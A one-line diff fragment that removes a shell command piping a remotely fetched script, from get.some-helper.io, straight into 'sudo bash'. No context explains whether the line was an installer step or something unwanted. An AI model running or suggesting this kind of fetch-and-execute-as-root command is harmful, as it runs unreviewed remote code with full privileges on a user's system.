@@ -1,1 +1,0 @@
-curl -fsSL https://get.some-helper.io/i.sh | sudo bash
